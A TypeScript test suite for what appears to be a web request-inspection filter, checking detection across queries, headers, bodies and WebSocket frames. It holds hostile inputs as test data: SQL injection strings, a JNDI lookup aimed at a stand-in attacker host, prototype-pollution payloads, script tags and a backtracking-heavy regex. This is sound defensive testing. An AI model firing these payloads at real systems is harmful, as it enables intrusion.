import assert from 'node:assert/strict';
import { suite, test } from 'node:test';
import { RE2JS } from 're2js';
import { parser } from '#kernel';
import type { Refusal } from '../../refusal.ts';
import { compilePolicy, testExchange, type TestRequest } from '../../testing.ts';
import { attacks } from './attacks.corpus.ts';
import { legitimate } from './legitimate.corpus.ts';
import { places } from './inspect.ts';
import { policy } from './policy.ts';
import { patternSets, setNames } from './sets/index.ts';

function verdictOf(options: Record<string, unknown>, request: TestRequest): Refusal | undefined {
  const verdict = compilePolicy(policy, options).inspect?.(testExchange(request));
  assert.ok(!(verdict instanceof Promise));
  return verdict;
}

const reasonOf = (...given: Parameters<typeof verdictOf>) => verdictOf(...given)?.reason;

const query = (value: string): TestRequest => ({
  url: `/things/v1/things/1?a=b&value=${encodeURIComponent(value)}&c`,
});
const header = (value: string): TestRequest => ({ headers: ['X-Note', value.replaceAll(/[\0\n]/g, ' ')] });
const bodyOf = (type: string, text: string): TestRequest => ({
  method: 'POST',
  headers: ['Content-Type', type, 'Content-Length', String(Buffer.byteLength(text))],
  body: Buffer.from(text),
});
const json = (value: string) => bodyOf('application/json', JSON.stringify({ note: { text: [value] } }));
const form = (value: string) =>
  bodyOf('application/x-www-form-urlencoded', new URLSearchParams({ value }).toString());
const inBody = { in: ['body'] };

for (const set of setNames) {
  suite(`the set ${set}`, () => {
    for (const attack of attacks[set]) {
      test(`finds ${JSON.stringify(attack)} in the query and in JSON, and says where but not what`, () => {
        assert.match(reasonOf({ sets: [set] }, query(attack)) ?? '', new RegExp(`^${set}/\\d+ in query$`));
        assert.match(
          reasonOf({ sets: [set], ...inBody }, json(attack)) ?? '',
          new RegExp(`^${set}/\\d+ in body$`),
        );
      });
    }
  });
}

suite('ordinary traffic', () => {
  for (const value of legitimate) {
    test(`${JSON.stringify(value)} passes everywhere`, () => {
      const options = { in: [...places] };
      for (const [place, request] of Object.entries({
        query: query(value),
        header: header(value),
        json: json(value),
        form: form(value),
        text: bodyOf('text/plain', value),
        'a name': { url: `/things/v1/things/1?${encodeURIComponent(value)}=1` },
      }))
        assert.equal(reasonOf(options, request), undefined, place);
    });
  }
});

suite('where the sets look', () => {
  const attack = attacks.sql[0] ?? assert.fail();

  test('path and query unless told otherwise, and a body is not held in memory for it', () => {
    const steps = compilePolicy(policy, {});
    assert.equal(steps.needsBody, undefined);
    assert.equal(steps.bodyLimit, undefined);
    assert.match(reasonOf({}, query(attack)) ?? '', /query/);
    assert.match(reasonOf({}, { url: "/things/v1/things/x'%20OR%201=1" }) ?? '', /^sql\/\d+ in path$/);
    assert.equal(reasonOf({}, header(attack)), undefined);
  });

  test('names are looked at as values are', () => {
    assert.match(reasonOf({}, { url: '/things/v1/things/1?__proto__[admin]=1' }) ?? '', /^template/);
    assert.match(
      reasonOf(inBody, bodyOf('application/json', '{"__proto__": {"admin": true}}')) ?? '',
      /^template/,
    );
  });

  test('headers only when asked for, every one of them, each time', () => {
    const steps = compilePolicy(policy, { in: ['headers'] });
    for (let i = 0; i < 3; i++) {
      const x = testExchange({
        headers: ['User-Agent', 'x', 'Cookie', 'a=1', 'Referer', '${jndi:ldap://evil.example}'],
      });
      assert.equal((steps.inspect?.(x) as Refusal | undefined)?.reason, 'template/1 in headers');
    }
  });

  test('a form is decoded once', () => {
    assert.match(
      reasonOf(inBody, bodyOf('application/x-www-form-urlencoded', 'a=1&b=%27+or+1%3D1')) ?? '',
      /^sql/,
    );
  });

  test('one byte that is not UTF-8 hides nothing', () => {
    assert.match(reasonOf({}, { url: '/things/v1/things/1?a=%FF%27+or+1%3D1' }) ?? '', /^sql/);
  });

  test('escapes in JSON hide nothing, nor does a name that is there twice', () => {
    assert.match(
      reasonOf(inBody, bodyOf('application/json', '{"a":"\\u003cscript\\u003e"}')) ?? '',
      /^markup/,
    );
    assert.match(reasonOf(inBody, bodyOf('application/json', '{"a":"<script>","a":"ok"}')) ?? '', /^markup/);
  });

  test('text between or after the strings of broken JSON is looked at too', () => {
    for (const text of ['{a:<script>}', '{"a":"b"} <script>', '{"a": "<script>', '{"a":"x\\', "['<script>']"])
      assert.equal(
        reasonOf(inBody, bodyOf('application/json', text)) !== undefined,
        text.includes('<'),
        text,
      );
  });

  test('JSON under another type is still looked at as JSON', () => {
    assert.match(reasonOf(inBody, bodyOf('text/plain', '{"a":"\\u0027 or 1=1"}')) ?? '', /^sql/);
  });

  test('a body that cannot be read is refused, not passed', () => {
    const headers = ['Content-Type', 'application/json', 'Content-Encoding', 'gzip'];
    const gzip = verdictOf(inBody, { headers, body: Buffer.from('x') });
    assert.deepEqual([gzip?.status, gzip?.headers], [415, { 'accept-encoding': 'identity' }]);
    assert.equal(verdictOf(inBody, bodyOf('application/json; charset=utf-7', '{}'))?.status, 415);
    assert.equal(verdictOf(inBody, bodyOf('application/json;charset="UTF-16"', '{}'))?.status, 415);
    assert.equal(verdictOf(inBody, { body: Buffer.from('\uFEFF{}', 'utf16le') })?.status, 415);
    // What lenient parsers take for UTF-16 or UTF-32 without being told.
    for (const text of ['{"a":1}', ' {}', '<?xml?>']) {
      const little = Buffer.from(text, 'utf16le');
      const wide = Buffer.from(Array.from(text, character => `\0\0\0${character}`).join(''));
      for (const body of [little, Buffer.from(little).swap16(), wide])
        assert.equal(verdictOf(inBody, { body })?.status, 415, text);
    }
    assert.equal(verdictOf(inBody, bodyOf('application/json; charset=utf-8', '{}')), undefined);
  });

  test('where bodies are inspected they are read and bounded, before a byte of a large one is read', () => {
    const steps = compilePolicy(policy, { ...inBody, bodyBytes: 100 });
    assert.equal(steps.needsBody, true);
    assert.equal(steps.bodyLimit, 100);
    const x = testExchange({ headers: ['Content-Length', '101'] });
    assert.equal((steps.validate?.(x) as Refusal | undefined)?.code, 'body-too-large');
  });

  test('no body, nothing to inspect', () => assert.equal(reasonOf(inBody, {}), undefined));
});

suite("the operator's patterns", () => {
  const own = (pattern: string, place: string, more: object = {}) => ({
    sets: [],
    patterns: [
      { pattern: 'never-there', in: ['path'] },
      { pattern, in: [place], ...more },
    ],
  });

  test('are found in the place they name, and the reason gives their number, not what was found', () => {
    assert.equal(reasonOf(own('secret-[0-9]+', 'query'), query('secret-42')), 'pattern 2 in query');
    assert.equal(
      reasonOf(own('^/things/v1/things/9', 'path'), { url: '/things/v1/things/9' }),
      'pattern 2 in path',
    );
    assert.equal(
      reasonOf(own('^user-agent: .*scanner', 'headers'), { headers: ['User-Agent', 'a scanner'] }),
      'pattern 2 in headers',
    );
    assert.equal(
      reasonOf(own('"admin":\\s*true', 'body'), bodyOf('application/json', '{"admin": true}')),
      'pattern 2 in body',
    );
  });

  test('are not looked for elsewhere', () => {
    assert.equal(reasonOf(own('secret', 'path'), query('secret')), undefined);
    assert.equal(reasonOf(own('secret', 'query'), json('secret')), undefined);
  });

  test('tell upper from lower case unless told not to', () => {
    assert.equal(reasonOf(own('secret', 'query'), query('SECRET')), undefined);
    assert.equal(
      reasonOf(own('secret', 'query', { ignoreCase: true }), query('SECRET')),
      'pattern 2 in query',
    );
  });

  test('see what escapes in JSON stand for', () => {
    assert.equal(
      reasonOf(own('secret', 'body'), bodyOf('application/json', '{"a":"\\u0073ecret"}')),
      'pattern 2 in body',
    );
  });

  for (const pattern of [
    'a(?=b)',
    '(?<!a)b',
    '(a)\\1',
    '(',
    '[a',
    'a{2000}',
    '(?:a{500}){500}',
    'a*',
    '',
    '.{1000}.{1000}.{1000}.{1000}.{1000}.{1000}',
  ])
    test(`${JSON.stringify(pattern)} is refused at publish, by its number`, () =>
      assert.throws(() => compilePolicy(policy, own(pattern, 'query')), /^Error: pattern 2 (?:is|matches)/));

  test('run in linear time, whatever their form', () => {
    const steps = compilePolicy(policy, own('^(a+)+$', 'body'));
    const x = testExchange(bodyOf('text/plain', `${'a'.repeat(60_000)}!`));
    const startedAt = performance.now();
    assert.equal(steps.inspect?.(x), undefined);
    // Exponential engines would not come back at all; the bound is generous on purpose.
    assert.ok(performance.now() - startedAt < 5000);
  });

  for (const options of [
    { sets: ['everything'] },
    { in: [] },
    { in: ['cookies'] },
    { patterns: [{ pattern: 'x' }] },
    { patterns: [{ pattern: 'x'.repeat(1001), in: ['path'] }] },
    { patterns: Array.from({ length: 51 }, () => ({ pattern: 'x', in: ['path'] })) },
    { bodyBytes: 2 ** 30 },
    { patern: [] },
  ])
    test(`the options ${JSON.stringify(options).slice(0, 60)} are refused at publish`, () =>
      assert.notEqual(parser(policy.options).faults(options).length, 0));
});

suite('messages of WebSockets', () => {
  const frameOf = (options: Record<string, unknown>, message: string, isText = true) =>
    compilePolicy(policy, options).frame?.(testExchange(), Buffer.from(message), isText);

  for (const attack of attacks.sql)
    test(`are searched like bodies: ${JSON.stringify(attack)}`, () => {
      const refusal = frameOf(inBody, JSON.stringify({ note: { text: [attack] } }));
      assert.equal(refusal?.code, 'threat-detected');
      assert.match(refusal?.reason ?? '', /in a message$/);
      assert.ok(!(refusal?.reason ?? '').includes(attack));
    });

  test('are searched when they are binary, and with the operator’s own patterns', () => {
    const options = { sets: [], patterns: [{ pattern: 'forbidden', in: ['body'] }] };
    assert.equal(frameOf(options, '\0\x01forbidden', false)?.code, 'threat-detected');
    assert.equal(frameOf(options, '{"a":"for\\u0062idden"}')?.code, 'threat-detected');
  });

  test('pass where nothing is found, or bodies are not looked at', () => {
    assert.equal(frameOf(inBody, 'a friendly text'), undefined);
    assert.equal(compilePolicy(policy, { in: ['query'] }).frame, undefined);
  });

  test('are refused when they are larger than what may be looked at', () => {
    assert.equal(frameOf({ ...inBody, bodyBytes: 10 }, 'a friendly text')?.code, 'message-too-large');
  });
});

test('bodies made to be slow are looked at in bounded time by the built-in sets', () => {
  const steps = compilePolicy(policy, inBody);
  const hostile = [
    "' or ",
    '${',
    '<a ',
    'select from ',
    '/*',
    '(((',
    '\\"',
    '{{',
    ';|&',
    '../',
    '<!doctype ',
    'union ',
  ];
  const startedAt = performance.now();
  for (const seed of hostile) {
    const text = seed.repeat(Math.ceil(60_000 / seed.length));
    void steps.inspect?.(testExchange(bodyOf('text/plain', text)));
    void steps.inspect?.(testExchange(bodyOf('application/json', `{"a":"${text}`)));
  }
  assert.ok(performance.now() - startedAt < 10_000);
});

for (const set of setNames) {
  for (const [i, pattern] of patternSets[set].patterns.entries()) {
    test(`${set}/${i + 1} is there for an attack of the corpus`, () => {
      const expression = RE2JS.compile(pattern, RE2JS.CASE_INSENSITIVE | RE2JS.DOTALL);
      assert.ok(
        attacks[set].some(attack => expression.test(attack)),
        pattern,
      );
    });
  }
}
